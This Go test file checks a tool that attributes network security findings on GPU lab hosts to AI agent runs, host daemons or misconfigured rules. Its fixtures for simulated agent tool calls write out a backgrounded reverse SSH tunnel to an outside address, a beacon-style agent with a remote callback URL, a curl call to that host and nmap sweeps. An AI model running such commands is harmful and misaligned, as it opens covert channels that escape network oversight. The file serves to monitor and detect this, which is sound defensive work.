package attribute

import (
	"fmt"
	"math"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"firetrail"
)

// incident makes one incident of findings, as attributed as the surest of them.
func incident(fs []firetrail.Finding) firetrail.Incident {
	inc := firetrail.Incident{ID: "i-" + fs[0].ID}
	for i := range fs {
		f := &fs[i]
		inc.Findings = append(inc.Findings, f.ID)
		if f.SrcIP.IsValid() {
			inc.Sources = append(inc.Sources, f.SrcIP)
		}
		inc.Sources = append(inc.Sources, f.Sources...)
		if f.Run != nil && (inc.Run == nil || f.Run.Level > inc.Run.Level || f.Run.Level == inc.Run.Level && f.Run.Probability > inc.Run.Probability) {
			inc.Run, inc.Candidates = f.Run, f.Candidates
		}
	}
	if inc.Run == nil {
		inc.Candidates = fs[0].Candidates
	}
	slices.SortFunc(inc.Sources, netip.Addr.Compare)
	inc.Sources = slices.Compact(inc.Sources)
	return inc
}

// judge attributes findings and asks for the cause of all of them together.
func judge(inv firetrail.Inventory, fs []firetrail.Finding) firetrail.Cause {
	NewIndex(inv, Options{}).Findings(fs)
	incs := []firetrail.Incident{incident(fs)}
	NewIndex(inv, Options{}).Causes(incs, fs, []firetrail.Interval{{Start: at(0), End: at(86400)}})
	return incs[0].Cause
}

// lab is a day of hosts gpu-1 … gpu-n, each with a job of two hours to twelve
// whose agent calls a tool for 30 s about every ten minutes.
func lab(n int, args func(host, call int) string) firetrail.Inventory {
	var inv firetrail.Inventory
	for h := range n {
		addr, name := fmt.Sprintf("10.20.3.%d", h+1), fmt.Sprintf("gpu-%d", h+1)
		inv.Hosts = append(inv.Hosts, host(addr, name))
		id := fmt.Sprintf("r-%d", h+1)
		inv.Runs = append(inv.Runs, run(id, lease(id, addr, "job", name, at(7200), at(12*3600), int64(h+1))))
		inv.Runs[h].Agentic = true
		for c := range 60 {
			from := callAt(int64(c)) - 5*second
			inv.Calls = append(inv.Calls, call(id, args(h, c), from, from+30*second, int64(h*100+c+1)))
		}
	}
	return inv
}

func quiet(int, int) string { return "python step.py" }

// callAt is the time of a lab's call, and of its traffic a little later.
// Calls come irregularly: against a clockwork a shift by its period means nothing.
func callAt(c int64) int64 { return at(7205 + c*600 + c*c*37%420) }

// every lists n times from one on.
func every(from, step int64, n int) (out []int64) {
	for i := range int64(n) {
		out = append(out, from+i*step)
	}
	return out
}

func TestCauses(t *testing.T) {
	few := func(addr, name string) []int64 { // a daemon's times: every three hours, all day
		var out []int64
		for h := range int64(8) {
			out = append(out, at(h*10800+1500))
		}
		return out
	}
	for _, c := range []struct {
		name string
		inv  firetrail.Inventory
		fs   []firetrail.Finding
		want string
		says string
	}{
		{"agent whose calls say it", lab(6, func(h, c int) string {
			if h == 0 && c == 10 {
				return "nmap -p 22 10.20.4.0/24"
			}
			if h == 0 && c == 20 {
				return "nohup ssh -N -R 8080:localhost:22 u@203.0.113.9 -p 443 &"
			}
			return "python step.py"
		}), []firetrail.Finding{found(internalSweep, "10.20.3.1", "10.20.4.0/24", 22, callAt(10)), found(sshTunnel, "10.20.3.1", dst, 443, callAt(20), callAt(20)+hour)},
			firetrail.VerdictAgent, "explain 3 of 3 bursts"},
		{"agent by timing alone", lab(6, func(int, int) string { return "" }),
			[]firetrail.Finding{found(sshTunnel, "10.20.3.1", dst, 443, callAt(3), callAt(9), callAt(14), callAt(22), callAt(31), callAt(44), callAt(50), callAt(55))},
			firetrail.VerdictAgent, "circular shift"},
		{"one burst in the wake of a call that names the peer", lab(6, func(h, c int) string {
			if h == 0 && c == 3 {
				return "nohup ./agent --url https://203.0.113.9/c &"
			}
			return "python step.py"
		}), []firetrail.Finding{found(beacon, "10.20.3.1", dst, 443, every(callAt(3)+26*second, 5*minute, 60)...)}, firetrail.VerdictAgent, "1 began in or soon after a call that names the peer"},
		{"long after the wake", lab(6, func(h, c int) string {
			if h == 0 && c == 3 {
				return "nohup ./agent --url https://203.0.113.9/c &"
			}
			return "python step.py"
		}), []firetrail.Finding{found(longSession, "10.20.3.1", dst, 443, callAt(3)+3*minute)}, firetrail.VerdictUndetermined, "0 began in or soon after"},
		{"one burst in a call that runs a tool for it", lab(6, func(h, c int) string {
			if h == 0 && c == 3 {
				return "wg-quick up ./wg0.conf"
			}
			return "python step.py"
		}), []firetrail.Finding{found(overlayVPN, "10.20.3.1", dst, 51820, callAt(3))}, firetrail.VerdictAgent, "runs a tool for it"},
		{"what a few desks do alike is no configuration", lab(8, quiet), func() (fs []firetrail.Finding) {
			for h := range 4 {
				fs = append(fs, found(overlayVPN, fmt.Sprintf("10.20.50.%d", h+1), dst, 41641, at(3000+int64(h)), at(20000+int64(h)*7), at(40000), at(60000+int64(h)*3)))
			}
			return fs
		}(), firetrail.VerdictUndetermined, "undetermined"},
		{"bursts an hour after calls that say it", lab(6, func(h, c int) string {
			if h == 0 && c%10 == 3 {
				return "python probe.py --ports 2222,2223,2224"
			}
			return "python step.py"
		}), []firetrail.Finding{found(refused, "10.20.3.1", dst, 2222, callAt(3)+hour, callAt(13)+hour, callAt(23)+hour, callAt(33)+hour)}, firetrail.VerdictUndetermined, "a mistaken zone"},
		{"bursts at no such distance", lab(6, func(h, c int) string {
			if h == 0 && c%10 == 3 {
				return "python probe.py --ports 2222,2223,2224"
			}
			return "python step.py"
		}), []firetrail.Finding{found(refused, "10.20.3.1", dst, 2222, callAt(3)+hour, callAt(13)+2*hour, callAt(23)+70*minute, callAt(33)+hour)}, firetrail.VerdictHost, "host"},
		{"one burst in one call is not enough", lab(6, func(int, int) string { return "" }),
			[]firetrail.Finding{found(sshTunnel, "10.20.3.1", dst, 443, callAt(3))}, firetrail.VerdictUndetermined, "undetermined"},
		{"service of a host", lab(6, quiet), []firetrail.Finding{found(bulkEgress, "10.20.3.2", dst, 443, few("", "")...)}, firetrail.VerdictHost, "while no run held"},
		{"bastion that no run ever held", func() firetrail.Inventory {
			inv := lab(6, quiet)
			inv.Hosts = append(inv.Hosts, host("10.20.9.1", "bastion"))
			return inv
		}(), []firetrail.Finding{found(portScan, "10.20.9.1", "10.20.3.1", 22, at(3600)), found(sshTunnel, "10.20.9.1", dst, 443, at(4000), at(9000))}, firetrail.VerdictHost, "no run held"},
		{"rule that fits nobody", lab(8, quiet), func() (fs []firetrail.Finding) {
			for h := range 8 {
				fs = append(fs, found(policyBurst, fmt.Sprintf("10.20.3.%d", h+1), "198.51.100.20", 443, at(3000+int64(h)), at(20000+int64(h)*7), at(60000+int64(h)*3)))
			}
			return fs
		}(), firetrail.VerdictMisconfiguration, "8 sources were refused"},
		{"one finding of many sources", lab(8, quiet), func() []firetrail.Finding {
			f := found(policyBurst, "10.20.3.1", "198.51.100.20", 443, at(3000), at(20000), at(60000))
			for h := range 8 {
				f.Sources = append(f.Sources, ip(fmt.Sprintf("10.20.3.%d", h+1)))
			}
			f.SrcIP = netip.Addr{}
			return []firetrail.Finding{f}
		}(), firetrail.VerdictMisconfiguration, "8 sources were refused"},
		{"calls all the time", func() firetrail.Inventory {
			inv := lab(4, func(int, int) string { return "" })
			for i := range inv.Calls {
				inv.Calls[i].End = inv.Calls[i].Start + 900*second
			}
			return inv
		}(), []firetrail.Finding{found(sshTunnel, "10.20.3.1", dst, 443, callAt(3), callAt(9), callAt(14))}, firetrail.VerdictUndetermined, "timing says nothing"},
		{"a process that runs by its own clock", lab(6, func(int, int) string { return "bash run.sh" }),
			[]firetrail.Finding{found(beacon, "10.20.3.1", dst, 443, every(callAt(3)+40*second, 5*minute, 60)...)}, firetrail.VerdictUndetermined, "59 bursts go on"},
		{"a slow scan is one act", lab(6, func(int, int) string { return "bash run.sh" }),
			[]firetrail.Finding{found(firstContact, "10.20.3.1", "10.20.4.0/24", 22, every(callAt(3), 150*second, 50)...)}, firetrail.VerdictUndetermined, "49 bursts go on"},
		{"one burst in idle time", lab(6, quiet), []firetrail.Finding{found(sshTunnel, "10.20.3.2", dst, 443, at(80000))}, firetrail.VerdictUndetermined, "nothing points to the host itself"},
		{"a resolver asks for others", lab(6, quiet), func() []firetrail.Finding {
			f := found(mining, "10.20.3.2", "198.51.100.53", 53, at(1000), at(80000))
			f.Why = []firetrail.Part{{Part: "lookup"}, {Part: "resolver"}}
			return []firetrail.Finding{f}
		}(), firetrail.VerdictUndetermined, "who asked it is not recorded"},
		{"no inventory", firetrail.Inventory{}, []firetrail.Finding{found(sshTunnel, "10.20.3.1", dst, 443, callAt(3))}, firetrail.VerdictUndetermined, "no inventory"},
	} {
		t.Run(c.name, func(t *testing.T) {
			for i := range c.fs {
				c.fs[i].ID = fmt.Sprintf("f-%02d", i)
			}
			got := judge(c.inv, c.fs)
			if sum := got.Posterior.Agent + got.Posterior.Host + got.Posterior.Misconfiguration; math.Abs(sum-1) > 1e-9 {
				t.Errorf("posterior sums to %g", sum)
			}
			if got.Verdict != c.want || !strings.Contains(strings.Join(got.Facts, "\n"), c.says) {
				t.Errorf("%s, want %s with %q:\n%s", got.Verdict, c.want, c.says, strings.Join(got.Facts, "\n"))
				for _, p := range got.Terms {
					t.Logf("%+.2f %s: %s", p.Points, p.Part, p.Text)
				}
			}
			if again := judge(c.inv, c.fs); again.Verdict != got.Verdict || again.Posterior != got.Posterior || !slices.Equal(again.Facts, got.Facts) {
				t.Error("asked twice, two answers")
			}
		})
	}
}

// trial is one random lab with one bad act of known origin.
type trial struct {
	inv   firetrail.Inventory
	fs    []firetrail.Finding
	run   string // that did it, "" for the host, the configuration or someone else
	cause string
}

// makeTrial draws a lab: hosts with jobs whose addresses are reused within
// seconds, a third of the traces missing, half of the others without
// arguments, clocks off by up to three seconds, and an act of an agent, a
// host's own service or a rule that does not fit.
func makeTrial(r *rand.Rand) trial {
	var tr trial
	hosts := 4 + r.IntN(6)
	for h := range hosts {
		addr, name := fmt.Sprintf("10.20.3.%d", h+1), fmt.Sprintf("gpu-%d", h+1)
		tr.inv.Hosts = append(tr.inv.Hosts, host(addr, name))
		from := at(r.Int64N(7200))
		for j := 0; from < at(70000); j++ {
			to := from + (2+r.Int64N(6))*hour
			id := fmt.Sprintf("r-%d-%d", h, j)
			tr.inv.Runs = append(tr.inv.Runs, run(id, lease(id, addr, "job", name, from, to, int64(j+1))))
			tr.job(r, id, from, to)
			if from = to + 5*second; r.IntN(3) == 0 {
				from += r.Int64N(3 * hour)
			}
		}
	}
	switch r.IntN(3) {
	case 0:
		tr.agent(r)
	case 1:
		tr.daemon(r, hosts)
	default:
		tr.storm(r, hosts)
	}
	for i := range tr.fs {
		tr.fs[i].ID = fmt.Sprintf("f-%02d", i)
	}
	return tr
}

func (tr *trial) job(r *rand.Rand, id string, from, to int64) {
	if r.IntN(10) < 3 {
		return
	}
	noArgs := r.IntN(2) == 0
	for t := from + r.Int64N(10*minute); t < to-minute; t += minute + r.Int64N(20*minute) {
		args := []string{"python step.py", "pip install numpy", "pytest -q", "curl https://pypi.example/simple", "nmap 10.77.0.0/24", "make -j", "nmap -sn $NET", "curl -s https://203.0.113.9/simple", "rsync -a $SRC $DST"}[r.IntN(9)]
		if noArgs {
			args = ""
		}
		tr.inv.Calls = append(tr.inv.Calls, call(id, args, t, min(t+second+r.Int64N(2*minute), to), int64(len(tr.inv.Calls)+1)))
	}
}

// skewed moves a time by up to three seconds.
func skewed(r *rand.Rand, t int64) int64 { return t + r.Int64N(6*second) - 3*second }

func (tr *trial) agent(r *rand.Rand) {
	who := tr.inv.Runs[r.IntN(len(tr.inv.Runs))]
	tr.run, tr.cause = who.ID, firetrail.VerdictAgent
	addr := who.Leases[0].IP.String()
	var times []int64
	named := r.IntN(2) == 0
	for i := range tr.inv.Calls {
		c := &tr.inv.Calls[i]
		if c.Run == who.ID && r.IntN(4) == 0 {
			times = append(times, skewed(r, c.Start+second))
			if named && !c.NoArgs {
				c.Args = "curl -s http://203.0.113.9:8443/x"
			}
		}
	}
	for len(times) == 0 || r.IntN(3) == 0 { // an act without a trace
		times = append(times, skewed(r, who.Leases[0].Start+r.Int64N(who.Leases[0].End-who.Leases[0].Start)))
	}
	slices.Sort(times)
	tr.fs = append(tr.fs, found(sshTunnel, addr, dst, 8443, times...))
}

func (tr *trial) daemon(r *rand.Rand, hosts int) {
	tr.cause = firetrail.VerdictHost
	addr := fmt.Sprintf("10.20.3.%d", 1+r.IntN(hosts))
	var times []int64
	for t := at(r.Int64N(7200)); t < at(80000); t += hour + r.Int64N(4*hour) {
		times = append(times, skewed(r, t))
	}
	if r.IntN(3) == 0 { // seen once or twice only
		times = times[:min(len(times), 1+r.IntN(2))]
	}
	kind := []string{bulkEgress, longSession, sshTunnel, internalSweep}[r.IntN(4)]
	peer := []string{dst, "203.0.113.44"}[r.IntN(2)] // the first is one that agents call for too
	if kind == internalSweep {
		peer = "10.20.4.0/24"
	}
	tr.fs = append(tr.fs, found(kind, addr, peer, 443, times...))
}

func (tr *trial) storm(r *rand.Rand, hosts int) {
	tr.cause = firetrail.VerdictMisconfiguration
	start := at(3600 + r.Int64N(60000))
	for h := range hosts {
		tr.fs = append(tr.fs, found(policyBurst, fmt.Sprintf("10.20.3.%d", h+1), "198.51.100.20", 443, skewed(r, start), skewed(r, start+30*minute)))
	}
}

// Over many labs: no wrong run is named with 0.9 or more, and "agent" is said
// of what was none in one case of a hundred at most.
func TestCalibration(t *testing.T) {
	trials := 600
	if testing.Short() {
		trials = 100
	}
	r := rand.New(rand.NewPCG(20260301, 1))
	var right, named, wrong, others, falseAgent int
	verdicts := map[string]map[string]int{}
	var bins [10][2]int // by tenths of the probability: named, right
	brier := 0.0
	for range trials {
		tr := makeTrial(r)
		cause := judge(tr.inv, tr.fs)
		for i := range tr.fs {
			sums(t, &tr.fs[i])
			ref := tr.fs[i].Run
			if ref == nil {
				continue
			}
			named++
			bin := &bins[min(int(ref.Probability*10), 9)]
			bin[0]++
			hit := 0.0
			if ref.ID == tr.run {
				right++
				bin[1]++
				hit = 1
			}
			brier += (hit - ref.Probability) * (hit - ref.Probability)
			if ref.ID == tr.run {
				continue
			}
			if ref.Probability >= .9 {
				wrong++
				t.Errorf("run %+v, but it was %q (%s): %v", *ref, tr.run, tr.cause, tr.fs[i].Candidates[0].Reasons)
			}
		}
		if verdicts[tr.cause] == nil {
			verdicts[tr.cause] = map[string]int{}
		}
		verdicts[tr.cause][cause.Verdict]++
		if tr.cause != firetrail.VerdictAgent {
			others++
			if cause.Verdict == firetrail.VerdictAgent {
				falseAgent++
			}
		}
	}
	t.Logf("%d findings named a run, %d the right one, %d a wrong one at 0.9; by tenths %v, Brier %.3f; verdicts by truth: %v", named, right, wrong, bins, brier/float64(max(named, 1)), verdicts)
	if falseAgent*100 > others {
		t.Errorf("%d of %d were called an agent's falsely", falseAgent, others)
	}
	if a := verdicts[firetrail.VerdictAgent]; a[firetrail.VerdictAgent]*4 < a[firetrail.VerdictUndetermined]+a[firetrail.VerdictAgent] {
		t.Errorf("agents are hardly ever found: %v", a)
	}
}
